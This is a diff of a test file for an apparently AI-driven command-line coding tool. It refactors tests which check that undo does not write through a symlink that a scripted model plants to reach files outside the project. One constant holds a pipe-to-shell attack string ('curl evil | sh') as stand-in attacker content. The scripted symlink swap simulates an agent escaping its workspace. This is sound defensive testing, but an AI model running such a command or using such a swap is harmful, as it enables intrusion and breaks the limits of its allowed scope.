@@ -9,51 +9,37 @@ import fs from "node:fs";
 import path from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { removeDir, runCli, tempDir } from "../helpers/cli.js";
-import {
-  type ScriptedServer,
-  type ScriptItem,
-  startScriptedServer,
-  step,
-} from "../helpers/scripted-server.js";
+import { useScene } from "../helpers/scene.js";
+import { type ScriptItem, startScriptedServer, step } from "../helpers/scripted-server.js";
 
-let home: string;
-let project: string;
+const scene = useScene({ home: "scoot-undoc-home-", project: "scoot-undoc-project-", realProject: true });
 /** The place the planted link points to: the user's files outside the project. */
 let outside: string;
-let server: ScriptedServer | undefined;
 beforeEach(() => {
-  home = tempDir("scoot-undoc-home-");
-  project = fs.realpathSync(tempDir("scoot-undoc-project-"));
   outside = fs.realpathSync(tempDir("scoot-undoc-outside-"));
 });
 afterEach(async () => {
-  await server?.close();
-  server = undefined;
-  removeDir(home);
-  removeDir(project);
   removeDir(outside);
 });
 
-const final = (answer: string): ScriptItem => ({
-  reply: { thought: "t", action: "final", action_input: answer },
-});
-const file = (name: string) => path.join(project, name);
+const final = (answer: string): ScriptItem => step("final", answer, "t");
+const file = (name: string) => path.join(scene.project, name);
 const USER_CONTENT = "the user's own file\n";
 const ATTACKER_CONTENT = "attacker: curl evil | sh\n";
 
 async function evalRun(items: ScriptItem[], extra: string[] = []) {
-  server = await startScriptedServer(items);
+  scene.server = await startScriptedServer(items);
   const r = await runCli(["-e", "change things", "--session-id", "swap-me", ...extra], {
-    home,
-    cwd: project,
-    env: { SCOOT_BACKEND_BASE_URL: server.url },
+    home: scene.home,
+    cwd: scene.project,
+    env: { SCOOT_BACKEND_BASE_URL: scene.server.url },
   });
-  await server.close();
-  server = undefined;
+  await scene.server.close();
+  scene.server = undefined;
   return r;
 }
 
-const scoot = (args: string[]) => runCli(args, { home, cwd: project });
+const scoot = (args: string[]) => runCli(args, { home: scene.home, cwd: scene.project });
 
 /** The model's two moves: a checkpointed write under sub/, then sub swapped for a link outside. */
 function swapScript(name: string, content: string): ScriptItem[] {
@@ -65,7 +51,7 @@ function swapScript(name: string, content: string): ScriptItem[] {
 }
 
 function auditEvents(kind: string): { msg: string }[] {
-  const text = fs.readFileSync(path.join(home, "logs", "audit.jsonl"), "utf8");
+  const text = fs.readFileSync(path.join(scene.home, "logs", "audit.jsonl"), "utf8");
   return text
     .split("\n")
     .filter((l) => l.trim() !== "")
@@ -122,11 +108,11 @@ describe("undo through a planted symlink", () => {
   });
 
   it("the REPL's /undo leaves the outside file untouched and names the refused entry", async () => {
-    server = await startScriptedServer(swapScript("notes.txt", ATTACKER_CONTENT));
+    scene.server = await startScriptedServer(swapScript("notes.txt", ATTACKER_CONTENT));
     const repl = await runCli(["repl"], {
-      home,
-      cwd: project,
-      env: { SCOOT_BACKEND_BASE_URL: server.url },
+      home: scene.home,
+      cwd: scene.project,
+      env: { SCOOT_BACKEND_BASE_URL: scene.server.url },
       input: "change things\n/undo --force\n",
     });
     expect(repl.code, repl.stderr).toBe(0);
@@ -184,7 +170,7 @@ describe("undo inside the project", () => {
       ["--policy", "unrestricted"],
     );
     expect(r.code, r.stderr).toBe(0);
-    const dir = path.join(home, "state", "checkpoints", "swap-me");
+    const dir = path.join(scene.home, "state", "checkpoints", "swap-me");
     const kept = fs
       .readdirSync(dir)
       .map((n) => fs.readFileSync(path.join(dir, n), "utf8"))
